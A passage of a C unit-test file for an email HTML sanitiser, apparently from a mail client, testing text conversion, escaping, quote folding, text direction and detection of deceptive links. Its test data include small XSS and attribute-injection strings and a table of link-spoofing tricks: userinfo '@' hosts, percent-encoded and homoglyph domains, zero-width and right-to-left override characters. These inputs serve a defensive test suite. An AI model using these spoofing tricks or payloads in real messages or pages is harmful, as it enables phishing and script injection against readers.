  { "a<p hidden>x</p>b<hr hidden><img hidden alt=x>", "ab" },
  { "<div style=\"font-size:0\">x<p style=\"font-size:14px\">seen</p>y</div>", "seen" },
  { "<div style=\"font:0/0 a\">x</div><i style=\"font:400 9px/1 a\">seen</i>", "seen" },
  { "<div style=\"font-size:1px\">x<b style=\"font-size:2em\">y</b></div>z", "z" },
  { "<div style=\"visibility:hidden\">x<i style=\"visibility:visible\">seen</i></div>", "seen" },
  { "<div style=\"max-height:0;overflow:hidden\">x</div><p style=\"height:0\">seen</p>", "seen" },
  { "<span style=\"opacity:0\">x</span>y<span style=\"opacity:0.5\">z</span>", "yz" },
  { "<ul hidden><li>x</ul><blockquote hidden>x</blockquote><p>a", "a" },
  { "<a href=\"https://example.org/\" hidden>x</a><a href=\"https://example.org/\">y</a>",
    "y <https://example.org/>" },
  { "<style>.pre, td.q {display:none} #top{font-size:0} @media print{.m{display:none}}"
    "</style><p class=\"a PRE\">x</p><p class=q>x</p><p id=top>x</p><p class=m>seen</p>", "seen" },
  { "<style>@media print{}.a{display:none}.b{display:none}.b{display:block}</style>"
    "<p class=a>x</p><p class=b>seen</p><p class=a style=\"display:block\">too</p>", "seen\n\ntoo" },
  { "<style>div .t{font-size:9px} div .u{display:none}</style>"
    "<div style=\"font-size:0\">x<p class=t>seen</p></div><p class=u>too</p>", "seen\n\ntoo" },
  { "soft\302\255hyphen zero\342\200\213width", "softhyphen zerowidth" },
};

static void
test_to_text (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (to_texts); i++)
    {
      g_autofree char *text = valija_html_to_text (to_texts[i].html);

      g_assert_cmpstr (text, ==, to_texts[i].text);
    }
}

static const struct
{
  const char *text;
  const char *html;
} from_texts[] = {
  { "", "" },
  { "a < b & \"c\"\n", "a &lt; b &amp; &quot;c&quot;\n" },
  { "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;" },
  { "see https://example.org/a?b=1&c=2.",
    "see <a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener "
    "noreferrer\">https://example.org/a?b=1&amp;c=2</a>." },
  { "(http://example.org/a_(b))", "(<a href=\"http://example.org/a_(b)\" rel=\"noopener "
                                  "noreferrer\">http://example.org/a_(b)</a>)" },
  { "<http://example.org>",
    "&lt;<a href=\"http://example.org\" rel=\"noopener noreferrer\">http://example.org</a>&gt;" },
  { "www.example.org",
    "<a href=\"http://www.example.org\" rel=\"noopener noreferrer\">www.example.org</a>" },
  { "me@example.org, you",
    "<a href=\"mailto:me@example.org\" rel=\"noopener noreferrer\">me@example.org</a>, you" },
  { "javascript:alert(1)", "javascript:alert(1)" },
  { "@ a@ @b a@b", "@ a@ @b a@b" },
  { "xhttp://example.org", "xhttp://example.org" },
  { "http://", "http://" },
  { "http://x\"onclick=y",
    "<a href=\"http://x\" rel=\"noopener noreferrer\">http://x</a>&quot;onclick=y" },
};

static void
test_from_text (void)
{
  static const char start[] = "<div style=\"white-space:pre-wrap;overflow-wrap:break-word;\">";
  g_autofree char *quotes = valija_html_fragment_from_text ("a\n> b\n>> c\n> > c\nd\n");

  for (gsize i = 0; i < G_N_ELEMENTS (from_texts); i++)
    {
      g_autofree char *html = valija_html_fragment_from_text (from_texts[i].text);
      g_autofree char *again = valija_html_sanitise (html, VALIJA_HTML_LOCAL_ONLY, NULL);
      g_autofree char *expected = g_strconcat (start, from_texts[i].html, "</div>", NULL);

      g_assert_cmpstr (html, ==, expected);
      g_assert_nonnull (strstr (again, start));
    }

  g_assert_nonnull (strstr (quotes, ">b\n<blockquote"));
  g_assert_nonnull (strstr (quotes, ">c\nc\n</blockquote></blockquote>d\n</div>"));
}

static const struct
{
  const char *text;
  const char *uri;
  gboolean deceives;
} deceptions[] = {
  { "Click here", "https://evil.example/", FALSE },
  { "", "https://evil.example/", FALSE },
  { "example.org", "https://example.org/", FALSE },
  { "EXAMPLE.org", "https://example.ORG/", FALSE },
  { "www.example.org", "https://example.org/x", FALSE },
  { "https://example.org/a", "https://www.example.org/b", FALSE },
  { "example.org", "https://news.example.org/", FALSE },
  { "https://bank.example", "https://evil.example/", TRUE },
  { "bank.example", "https://evil.example/bank.example", TRUE },
  { "bank.example", "https://bank.example.evil.example/", TRUE },
  { "bank.example", "https://evilbank.example/", TRUE },
  { "login.bank.example", "https://bank.example/", TRUE },
  { "https://bank.example/", "https://bank.example@evil.example/", TRUE },
  { "https://bank.example@evil.example/", "https://evil.example/", TRUE },
  { "https://bank.example", "https://bank.example:80@evil.example/", TRUE },
  { "https://bank.example", "https://bank.example%40evil.example/", TRUE },
  { "https://bank.example", "https://%65vil.example/", TRUE },
  { "https://evil.example", "https://%65vil.example/", FALSE },
  { "https://bank.example", "https:\\\\evil.example\\bank.example", TRUE },
  { "https://bank.example", "https:evil.example", TRUE },
  { "https://bank.example", "//evil.example", TRUE },
  { "https://bank.example", "https://evil.example\\@bank.example/", TRUE },
  { "https://bank.example", "https://ev\til.exam\nple/", TRUE },
  { "https://bank.example", "https://bank.example./", FALSE },
  { "https://bank.example.", "https://bank.example/", FALSE },
  { "https://bank.example", "javascript:alert(1)", TRUE },
  { "https://bank.example", "data:text/html,x", TRUE },
  { "https://bank.example", "https://evil.example/?https://bank.example", TRUE },
  { "bank\xe3\x80\x82" "example", "https://evil.example/", TRUE },
  { "bank\xef\xbc\x8e" "example", "https://evil.example/", TRUE },
  { "ba\xe2\x80\x8bnk.example", "https://evil.example/", TRUE },
  { "ba\xc2\xadnk.example", "https://evil.example/", TRUE },
  { "\xe2\x80\xae" "elpmaxe.knab", "https://evil.example/", TRUE },
  { "ｂａｎｋ.example", "https://evil.example/", TRUE },
  { "b\xd0\xb0nk.example", "https://bank.example/", TRUE },
  { "bücher.example", "https://xn--bcher-kva.example/", FALSE },
  { "https://1.2.3.4/", "https://5.6.7.8/", TRUE },
  { "https://1.2.3.4/", "https://1.2.3.4/", FALSE },
  { "version 1.2.3", "https://evil.example/", FALSE },
  { "report.pdf", "https://evil.example/", FALSE },
  { "index.html", "https://evil.example/", FALSE },
  { "example.org/index.evil", "https://example.org/", FALSE },
  { "e.g. this", "https://evil.example/", FALSE },
  { "me@bank.example", "mailto:me@bank.example", FALSE },
  { "me@bank.example", "mailto:me@evil.example", TRUE },
  { "Visit bank.example today", "https://evil.example/", TRUE },
  { "bank.example", "#top", TRUE },
  { "bank.example", "", TRUE },
};

static void
test_deceives (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (deceptions); i++)
    {
      g_assert_cmpint (valija_html_link_deceives (deceptions[i].text, deceptions[i].uri), ==,
                       deceptions[i].deceives);
    }
}

/* The body of what is made of @html, with "{" for the beginning of the fold. (transfer full) */
static char *
dup_folded (const char *html)
{
  g_autofree char *safe = valija_html_sanitise_folded (html, VALIJA_HTML_LOCAL_ONLY, NULL);
  const char *body = strstr (safe, "<body>") + strlen ("<body>");
  GString *text = g_string_new_len (body, strstr (body, "</body>") - body);
  char *link = strstr (text->str, "<a href=\"" VALIJA_HTML_FOLD_URI);
  const char *quote = "<div data-valija-quote=\"\">";

  if (link != NULL)
    {
      gsize start = (gsize) (link - text->str);
      gsize end = (gsize) (strstr (link, quote) - text->str) + strlen (quote);

      g_string_erase (text, (gssize) start, (gssize) (end - start));
      g_string_insert_c (text, (gssize) start, '{');
    }

  return g_string_free (text, FALSE);
}

/* What each program makes of an answer above the message that it answers; and what must stay in sight. */
static void
test_fold (void)
{
  static const struct
  {
    const char *html;
    const char *folded;
  } folds[] = {
    { "<p>Yes</p><blockquote type=\"cite\"><p>No?</p></blockquote>",
      "<p>Yes</p>{<blockquote type=\"cite\"><p>No?</p></blockquote></div>" },
    { "Yes<div class=\"gmail_quote gmail_quote_container\"><div>Bo wrote:</div><blockquote class=\"gmail_quote\">No?"
      "</blockquote></div><br>",
      "Yes{<div class=\"gmail_quote gmail_quote_container\"><div>Bo wrote:</div><blockquote class=\"gmail_quote\">No?"
      "</blockquote></div></div><br>" },
    { "<div><p>Yes</p><div id=\"appendonsend\"></div><hr><div id=\"divRplyFwdMsg\">From: Bo</div><p>No?</p></div>",
      "<div><p>Yes</p>{<div id=\"appendonsend\"></div><hr><div id=\"divRplyFwdMsg\">From: Bo</div><p>No?</p></div>"
      "</div>" },
    { "Yes<div class=\"moz-cite-prefix\">Bo wrote:</div>\n<blockquote type=\"cite\">No?</blockquote>\n",
      "Yes{<div class=\"moz-cite-prefix\">Bo wrote:</div>\n<blockquote type=\"cite\">No?</blockquote></div>\n" },
    { "Yes<div class=\"yahoo_quoted\">No?</div><img src=\"https://count.example/1\">",
      "Yes{<div class=\"yahoo_quoted\">No?</div></div><img>" },
    /* One answer between the lines, and one below */
    { "Hi<blockquote type=\"cite\">A?</blockquote>Yes<blockquote type=\"cite\">B?</blockquote>",
      "Hi<blockquote type=\"cite\">A?</blockquote>Yes{<blockquote type=\"cite\">B?</blockquote></div>" },
    { "Hi<div class=\"moz-cite-prefix\">Bo wrote:</div><blockquote type=\"cite\">A?</blockquote>Yes",
      "Hi<div class=\"moz-cite-prefix\">Bo wrote:</div><blockquote type=\"cite\">A?</blockquote>Yes" },
    { "Hi<div class=\"gmail_quote\">Bo wrote:<blockquote class=\"gmail_quote\">A?</blockquote>Yes<blockquote "
      "class=\"gmail_quote\">B?</blockquote></div>",
      "Hi<div class=\"gmail_quote\">Bo wrote:<blockquote class=\"gmail_quote\">A?</blockquote>Yes{<blockquote "
      "class=\"gmail_quote\">B?</blockquote></div></div>" },
    { "Hi<div class=\"gmail_quote\">Bo wrote:<blockquote class=\"gmail_quote\">A?</blockquote><p>Yes</p></div>",
      "Hi<div class=\"gmail_quote\">Bo wrote:<blockquote class=\"gmail_quote\">A?</blockquote><p>Yes</p></div>" },
    { "Hi<blockquote type=\"cite\">A<blockquote type=\"cite\">B</blockquote>C</blockquote>",
      "Hi{<blockquote type=\"cite\">A<blockquote type=\"cite\">B</blockquote>C</blockquote></div>" },
    /* Two quotations are one where they stand together */
    { "Hi<blockquote type=\"cite\">A?</blockquote> <blockquote type=\"cite\">B?</blockquote>",
      "Hi{<blockquote type=\"cite\">A?</blockquote> <blockquote type=\"cite\">B?</blockquote></div>" },
    { "<table><tr><td>Hi<blockquote type=\"cite\">A?</blockquote></td><td><blockquote type=\"cite\">B?</blockquote>"
      "</td></tr></table>",
      "<table><tr><td>Hi<blockquote type=\"cite\">A?</blockquote></td><td>{<blockquote type=\"cite\">B?</blockquote>"
      "</div></td></tr></table>" },
    { "<div>Hi<div id=\"divRplyFwdMsg\">From: Bo</div></div><div><blockquote type=\"cite\">B?</blockquote></div>",
      "<div>Hi<div id=\"divRplyFwdMsg\">From: Bo</div></div><div>{<blockquote type=\"cite\">B?</blockquote></div>"
      "</div>" },
    { "Hi<blockquote type=\"cite\">A?</blockquote><img alt=\"x\"><blockquote type=\"cite\">B?</blockquote>",
      "Hi<blockquote type=\"cite\">A?</blockquote><img alt=\"x\">{<blockquote type=\"cite\">B?</blockquote></div>" },
    { "Yes<div class=\"moz-cite-prefix\">Bo wrote:</div><img alt=\"x\"><blockquote type=\"cite\">A?</blockquote>",
      "Yes<div class=\"moz-cite-prefix\">Bo wrote:</div><img alt=\"x\">{<blockquote type=\"cite\">A?</blockquote>"
      "</div>" },
    /* An attribution of what stands elsewhere */
    { "Yes<div class=\"moz-cite-prefix\">Bo wrote:</div><table><tr><td><blockquote type=\"cite\">A?</blockquote>"
      "</td></tr></table>",
      "Yes<div class=\"moz-cite-prefix\">Bo wrote:</div><table><tr><td>{<blockquote type=\"cite\">A?</blockquote>"
      "</div></td></tr></table>" },
    /* All of it is quoted */
    { "<div class=\"gmail_quote\">Bo wrote:<blockquote type=\"cite\">A?</blockquote></div>",
      "<div class=\"gmail_quote\">Bo wrote:<blockquote type=\"cite\">A?</blockquote></div>" },
    { "<div class=\"moz-cite-prefix\">Bo wrote:</div><blockquote type=\"cite\">A?</blockquote>",
      "<div class=\"moz-cite-prefix\">Bo wrote:</div><blockquote type=\"cite\">A?</blockquote>" },
    { "&nbsp;<div id=\"divRplyFwdMsg\">From: Bo</div><p>A?</p>",
      "\u00a0<div id=\"divRplyFwdMsg\">From: Bo</div><p>A?</p>" },
    /* What nobody sees is not what was answered, and what comes after the quotation is left in doubt */
    { "<div style=\"display:none\">Yes</div><blockquote type=\"cite\">A?</blockquote>",
      "<div style=\"display:none;\">Yes</div><blockquote type=\"cite\">A?</blockquote>" },
    { "<style>.preheader { display: none }</style><p class=\"preheader\">Yes<img></p><div class=\"yahoo_quoted\">A?"
      "</div>",
      "<p class=\"preheader\">Yes<img></p><div class=\"yahoo_quoted\">A?</div>" },
    { "<div hidden>No</div>Yes<blockquote type=\"cite\">A?</blockquote>",
      "<div>No</div>Yes{<blockquote type=\"cite\">A?</blockquote></div>" },
    { "Yes<blockquote type=\"cite\">A?</blockquote><span style=\"font-size:0\">No</span>",
      "Yes<blockquote type=\"cite\">A?</blockquote><span style=\"font-size:0;\">No</span>" },
    /* What is quoted by hand, and markup that is not ours */
    { "So said<blockquote>Cato</blockquote>", "So said<blockquote>Cato</blockquote>" },
    { "Yes<div data-valija-quote=\"\">No</div><a href=\"valija:quote\">x</a>", "Yes<div>No</div><a>x</a>" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (folds); i++)
    {
      g_autofree char *folded = dup_folded (folds[i].html);

      g_assert_cmpstr (folded, ==, folds[i].folded);
    }
}

/* What is kept of a message goes with it. */
static void
test_names (void)
{
  g_autofree char *folded = dup_folded ("<made-up-by-a-sender>Yes</made-up-by-a-sender>");

  g_assert_cmpstr (folded, ==, "Yes");
  g_assert_cmpuint (g_quark_try_string ("made-up-by-a-sender"), ==, 0);
}

/* The direction of all of it is that of the document, so that a browser lets it overflow to the side where it ends. */
static void
test_direction (void)
{
  static const struct
  {
    const char *html;
    gboolean rtl;
  } pages[] = {
    { "<p>x", FALSE },
    { "<p dir=rtl>x", FALSE },
    { "<html dir=rtl><body><p>x", TRUE },
    { "<html lang=ar dir=RTL><body><p>x", TRUE },
    { "<body dir=\"rtl\"><p>x", TRUE },
    { "<html dir=rtl><body dir=ltr><p>x", FALSE },
    { "<html dir=auto><body><p>x", FALSE },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (pages); i++)
    {
      ValijaHtmlOutcome outcome;
      g_autofree char *safe = valija_html_sanitise (pages[i].html, VALIJA_HTML_LOCAL_ONLY, &outcome);
      g_autofree char *again = NULL;

      g_assert_true (outcome.rtl == pages[i].rtl);
      g_assert_true (g_str_has_prefix (safe, "<!DOCTYPE html><html dir=\"rtl\">") == pages[i].rtl);
      again = valija_html_sanitise_folded (safe, VALIJA_HTML_LOCAL_ONLY, &outcome);
      g_assert_true (outcome.rtl == pages[i].rtl);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/mime/html/cases", test_cases);
  g_test_add_func ("/mime/html/attacks", test_attacks);
  g_test_add_func ("/mime/html/mutations", test_mutations);
  g_test_add_func ("/mime/html/blocked", test_blocked);
  g_test_add_func ("/mime/html/sheet", test_sheet);
  g_test_add_func ("/mime/html/fold", test_fold);
  g_test_add_func ("/mime/html/names", test_names);
  g_test_add_func ("/mime/html/floods", test_floods);
  g_test_add_func ("/mime/html/attribute-flood", test_attribute_flood);
  g_test_add_func ("/mime/html/to-text", test_to_text);
  g_test_add_func ("/mime/html/from-text", test_from_text);
  g_test_add_func ("/mime/html/deceives", test_deceives);
  g_test_add_func ("/mime/html/direction", test_direction);

  return g_test_run ();
}
